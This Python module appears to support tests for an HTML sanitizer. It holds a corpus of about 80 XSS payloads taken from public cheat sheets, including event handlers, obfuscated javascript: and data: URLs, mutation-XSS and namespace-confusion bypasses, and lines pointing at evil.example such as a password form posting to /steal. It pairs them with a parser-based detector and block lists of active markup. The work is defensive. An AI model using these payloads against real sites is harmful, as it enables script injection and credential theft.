"""An XSS corpus, and a spec HTML parser's verdict on what a document built from it would run.

The payloads come from the public lists a probe starts from: the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), PortSwigger's XSS cheat
sheet (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet: event handlers, namespace confusion,
mutation XSS) and the DOMPurify bypass write-ups (mXSS through <math>/<svg> and <noscript>). Outside hosts are
evil.example; every script is alert(n), so a payload that survives names itself.

`active_markup` parses a document or fragment with tinyhtml5 (an HTML5 tree builder that follows the WHATWG
parsing algorithm, as browsers do, with foreign content and the adoption agency; installed with WeasyPrint) and
lists what would run or load: script-like elements, event handlers, javascript:/vbscript:/data: addresses after
the parser decoded entities and after the spaces and controls a browser ignores are removed, CSS expressions,
<base>, <meta http-equiv=refresh>, outside forms and resources. A page's own scripts, forms, styles and inline
QR codes pass by what they are (addresses on our site, no handlers), never by substring.
"""

from __future__ import annotations

import io
import re
from xml.etree.ElementTree import Element

import tinyhtml5

PAYLOADS: dict[str, str] = {
    # Plain script and event handlers (OWASP "Basic XSS Test Without Filter Evasion", PortSwigger event list).
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-extraneous-brackets": "<<SCRIPT>alert(2);//\\<</SCRIPT>",
    "script-no-closing": "<SCRIPT SRC=https://evil.example/x.js?< B >",
    "script-split": "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "script-in-attribute-breakout": '"><script>alert(4)</script>',
    "single-quote-breakout": "'><img src=x onerror=alert(5)>",
    "textarea-breakout": "</textarea><script>alert(6)</script>",
    "title-breakout": "</title><script>alert(7)</script>",
    "style-breakout": "</style><img src=x onerror=alert(8)>",
    "script-end-breakout": "</script><script>alert(9)</script>",
    "img-onerror": "<img src=x onerror=alert(10)>",
    "img-slashes-for-spaces": "<img/src/onerror=alert(11)>",
    "img-uppercase-quoted": '<IMG SRC="x" ONERROR="alert(12)">',
    "img-onerror-entity": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;13&#41;>",
    "body-onload": "<body onload=alert(14)>",
    "svg-onload": "<svg onload=alert(15)>",
    "svg-slash-onload": "<svg/onload=alert(16)>",
    "details-ontoggle": "<details open ontoggle=alert(17)>",
    "input-onfocus-autofocus": "<input onfocus=alert(18) autofocus>",
    "marquee-onstart": "<marquee onstart=alert(19)>x</marquee>",
    "video-source-onerror": "<video><source onerror=alert(20)></video>",
    "audio-src-onerror": "<audio src=x onerror=alert(21)>",
    "p-onmouseover": '<p onmouseover="alert(22)">悬停</p>',
    "a-onclick": '<a href="https://example.org/" onclick="alert(23)">点我</a>',
    "select-autofocus-onfocus": "<select autofocus onfocus=alert(24)>",
    "unknown-element-onclick": "<xss onclick=alert(25)>x</xss>",
    # Addresses: javascript:, vbscript:, data:, obfuscated by case, entities, whitespace and controls.
    "a-javascript": '<a href="javascript:alert(26)">链接</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(27)">链接</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(28)">链接</a>',
    "a-javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(29)">链接</a>',
    "a-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(30)">链接</a>'
    ),
    "a-javascript-hex-no-semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(31)">链接</a>'
    ),
    "a-javascript-leading-controls": '<a href=" &#14;  javascript:alert(32)">链接</a>',
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(33)">链接</a>',
    "a-vbscript": '<a href="vbscript:msgbox(34)">链接</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNSk8L3NjcmlwdD4=">链接</a>',
    "a-data-html-case": '<a href="DATA:text/html,<script>alert(36)</script>">链接</a>',
    "img-javascript": '<img src="javascript:alert(37)">',
    "img-dynsrc-lowsrc": '<img dynsrc="javascript:alert(38)" lowsrc="javascript:alert(38)">',
    "iframe-javascript": '<iframe src="javascript:alert(39)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(40)&lt;/script&gt;"></iframe>',
    "object-data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg0MSk8L3NjcmlwdD4="></object>',
    "embed-src": '<embed src="javascript:alert(42)">',
    "form-action": '<form action="javascript:alert(43)"><button>发送</button></form>',
    "form-outside": '<form action="https://evil.example/steal"><input name="pw" type="password"></form>',
    "button-formaction": '<button formaction="javascript:alert(44)">发送</button>',
    "a-protocol-relative": '<a href="//evil.example/">协议相对</a>',
    "a-backslash-relative": '<a href="/\\evil.example/">反斜杠</a>',
    "img-protocol-relative": '<img src="//evil.example/track.png">',
    "base-href": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(45)">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4=">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    # CSS: expression(), url(javascript:), -moz-binding, @import.
    "style-expression": '<p style="width: expression(alert(46))">样式</p>',
    "style-url-javascript": '<p style="background-image: url(javascript:alert(47))">样式</p>',
    "style-moz-binding": '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">样式</p>',
    "style-element-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-element-expression": "<style>p{width:expression(alert(48))}</style>",
    # Namespace confusion and mutation XSS (DOMPurify bypasses, PortSwigger "mXSS").
    "svg-style-img": "<svg><style><img src=x onerror=alert(49)></style></svg>",
    "math-mtext-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(50)>",
    "math-mi-style": "<math><mi><style><img src=x onerror=alert(51)></style></mi></math>",
    "svg-p-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(52)>">',
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(53)>"></noscript>',
    "template-img": "<template><img src=x onerror=alert(54)></template>",
    "svg-animate-href": '<svg><a><animate attributeName=href values=javascript:alert(55) /><text y="20">点</text></a></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(56)>#x"/></svg>',
    "svg-script-xlink": '<svg><script xlink:href="data:,alert(57)"></script></svg>',
    "math-xlink-href": '<math><maction actiontype="statusline" xlink:href="javascript:alert(58)">x</maction></math>',
    "svg-foreignobject": "<svg><foreignObject><iframe src=javascript:alert(59)></iframe></foreignObject></svg>",
    "form-math-mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(60)>",
    # Comments, CDATA, processing instructions, unclosed and nested markup.
    "comment-img": "<!--><img src=x onerror=alert(61)>-->",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(62)</script><![endif]-->",
    "cdata-script": "<![CDATA[<script>alert(63)</script>]]>",
    "processing-instruction": '<?xml-stylesheet href="javascript:alert(64)"?><p>文</p>',
    "unclosed-img": "<img src=x onerror=alert(65) ",
    "unclosed-attribute": '<a href="https://example.org/ onmouseover=alert(66)//">链接',
    "nested-quotes": '<img """><script>alert(67)</script>">',
    "attribute-breakout-img": '"><img src=x onerror=alert(68)>',
    # Encodings: unicode escapes and full-width brackets (harmless as text, must stay text).
    "js-unicode-escape": "<img src=x onerror=\\u0061lert(69)>",
    "fullwidth-brackets": "＜script＞alert(70)＜/script＞",
    "utf7": "+ADw-script+AD4-alert(71)+ADw-/script+AD4-",
    "percent-encoded": "%3Cscript%3Ealert(72)%3C/script%3E",
    "entity-encoded-tag": "&lt;script&gt;alert(73)&lt;/script&gt;",
    "double-encoded": "&amp;lt;img src=x onerror=alert(74)&amp;gt;",
    # Addresses alone, for the URL fields (a source's link, a QR target).
    "url-javascript": "javascript:alert(75)",
    "url-javascript-obfuscated": " JaVa\tScRiPt:alert(76)",
    "url-vbscript": "vbscript:msgbox(77)",
    "url-data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCg3OCk8L3NjcmlwdD4=",
    "url-protocol-relative": "//evil.example/",
    "url-attribute-breakout": 'https://example.org/"><img src=x onerror=alert(79)>',
    "url-quote-breakout": "https://example.org/'onmouseover='alert(80)",
}

PAYLOAD_IDS = list(PAYLOADS)

# Payloads that a single parse leaves inert (text, IE-only syntax, a tag cut off by the end of input), or that turn
# active only once a sanitizer's output is parsed again or with scripting enabled (mutation XSS): what a
# sanitizer or an escaping slip must not turn into markup. Every other payload, parsed raw, is active markup,
# which shows that `active_markup` sees it.
INERT_RAW = {
    "script-split",
    "math-mtext-mglyph-style",
    "math-mi-style",
    "svg-p-style",
    "noscript-title",
    "form-math-mglyph",
    "comment-conditional",
    "cdata-script",
    "processing-instruction",
    "unclosed-img",
    "unclosed-attribute",
    "fullwidth-brackets",
    "utf7",
    "percent-encoded",
    "entity-encoded-tag",
    "double-encoded",
    "url-javascript",
    "url-javascript-obfuscated",
    "url-vbscript",
    "url-data-html",
    "url-protocol-relative",
    "url-quote-breakout",
}

# Where a browser reads an address (HTML's URL-valued attributes, SVG's and MathML's links).
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "codebase",
    "srcset",
    "lowsrc",
    "dynsrc",
    "xlink:href",
    "ping",
    "cite",
    "values",
    "to",
    "from",
}
# Elements that run, embed or redirect whatever they hold; never in an output except as the page's own (below).
ACTIVE_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
# SVG elements that script, link or animate attributes (an <animate> can set href to javascript:).
ACTIVE_SVG = {
    "script",
    "foreignobject",
    "animate",
    "set",
    "animatetransform",
    "animatemotion",
    "handler",
    "use",
}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
# What a browser's URL parser ignores: C0 controls and spaces at the ends, tabs and newlines anywhere.
_URL_EDGES = "".join(chr(c) for c in range(0x21))
_URL_REMOVED = re.compile(r"[\t\n\r]")
_CSS_ACTIVE = re.compile(
    r"expression\s*\(|javascript:|vbscript:|-moz-binding|behavior\s*:|evil\.example", re.I
)


def _local(tag: str) -> tuple[str, str]:
    """("svg", "circle") for "{http://www.w3.org/2000/svg}circle"; ("html", "p") for an HTML element."""
    if tag.startswith("{"):
        namespace, _, name = tag[1:].partition("}")
        kind = "svg" if namespace.endswith("/svg") else "math" if "MathML" in namespace else "html"
        return kind, name.lower()
    return "html", tag.lower()


def _attribute_name(name: str) -> str:
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return f"xlink:{local}" if namespace.endswith("/xlink") else local.lower()
    return name.lower()


def address_scheme(value: str) -> str:
    """The scheme a browser reads in an attribute's address (entities are already decoded by the parser),
    lower case; "" for a relative address, "//" for a protocol-relative one."""
    address = _URL_REMOVED.sub("", value).strip(_URL_EDGES)
    if re.match(r"^[/\\]{2}", address):
        return "//"
    match = _SCHEME.match(address)
    return match.group(1).lower() if match else ""


def _own_address(value: str) -> bool:
    """A path on our own site ("/static/…", "/newsroom/…"), not a protocol-relative one."""
    address = value.strip()
    return address_scheme(address) == "" and address.startswith("/") and address[1:2] not in ("/", "\\")


def _element_problems(element: Element, kind: str, tag: str) -> list[str]:
    attrs = {_attribute_name(name): value or "" for name, value in element.attrib.items()}
    where = f"<{tag}>" if kind == "html" else f"<{kind}:{tag}>"
    problems = [f"{where} {name}=" for name in attrs if name.startswith("on")]
    if "srcdoc" in attrs:
        problems.append(f"{where} srcdoc=")
    if _CSS_ACTIVE.search(attrs.get("style", "")):
        problems.append(f"{where} style={attrs['style'][:60]!r}")
    for name in URL_ATTRIBUTES & attrs.keys():
        value = attrs[name]
        if name in ("values", "to", "from") and kind == "html":
            continue
        scheme = address_scheme(value)
        if scheme in ("javascript", "vbscript", "livescript"):
            problems.append(f"{where} {name}={scheme}:")
        elif scheme == "data":
            media = _URL_REMOVED.sub("", value).strip(_URL_EDGES)[5:].lower()
            if not (tag in ("img", "link") and media.startswith("image/")):
                problems.append(f"{where} {name}=data:{media[:20]}")
        elif scheme == "//":
            problems.append(f"{where} {name}=//…")
        elif name in ("src", "data", "poster", "background", "srcset", "lowsrc", "dynsrc") and (
            "evil.example" in value
        ):
            problems.append(f"{where} {name} loads {value[:60]!r}")
    if kind == "svg" and tag in ACTIVE_SVG:
        problems.append(where)
    if kind == "math" and ("href" in attrs or "xlink:href" in attrs):
        problems.append(f"{where} href=")
    if kind != "html":
        return problems
    if tag == "script":
        own_script = _own_address(attrs.get("src", ""))
        data_only = attrs.get("type") in ("application/json", "application/ld+json") and "src" not in attrs
        if not (own_script or data_only):
            problems.append(f"<script> {attrs.get('src', (element.text or '')[:40])!r}")
    elif tag == "iframe":
        if not _own_address(attrs.get("src", "")):
            problems.append(f"<iframe src={attrs.get('src', '')[:60]!r}>")
    elif tag in ACTIVE_ELEMENTS:
        problems.append(where)
    elif tag == "meta" and attrs.get("http-equiv", "").lower() in (
        "refresh",
        "set-cookie",
        "content-security-policy",
    ):
        problems.append(f"<meta http-equiv={attrs['http-equiv']}>")
    elif tag == "form" and attrs.get("action", "") and not _own_address(attrs["action"]):
        problems.append(f"<form action={attrs['action'][:60]!r}>")
    elif tag == "link" and not (
        _own_address(attrs.get("href", ""))
        or address_scheme(attrs.get("href", "")) in ("data", "https", "http")
    ):
        problems.append(f"<link href={attrs.get('href', '')[:60]!r}>")
    elif tag == "link" and "evil.example" in attrs.get("href", ""):
        problems.append(f"<link href={attrs['href'][:60]!r}>")
    elif tag == "style" and _CSS_ACTIVE.search(element.text or ""):
        problems.append(f"<style> {(element.text or '')[:60]!r}")
    return problems


def parse(html: str) -> Element:
    """`html` as a browser builds it: tinyhtml5's tree (elements in their namespaces). Given as a stream, since
    tinyhtml5 reads a short string that names an existing file as that file."""
    return tinyhtml5.parse(io.StringIO(str(html)))


def active_markup(html: str) -> list[str]:
    """What a browser would run or load from `html` (a document or a fragment) that no output of ours may
    carry, one line each (e.g. "<img> onerror=", "<a> href=javascript:"); [] when nothing. A page's own
    scripts (from our site, or JSON data), frames, forms and stylesheets on our site pass."""
    root = parse(html)
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        kind, tag = _local(element.tag)
        problems += _element_problems(element, kind, tag)
    return problems


def text_of(html: str) -> str:
    """The text a reader of `html` sees (script and style contents excluded)."""
    root = parse(html)
    skip = {"script", "style", "template"}
    parts: list[str] = []

    def walk(element: Element) -> None:
        if isinstance(element.tag, str) and _local(element.tag)[1] in skip:
            return
        parts.append(element.text or "")
        for child in element:
            walk(child)
            parts.append(child.tail or "")

    walk(root)
    return "".join(parts)
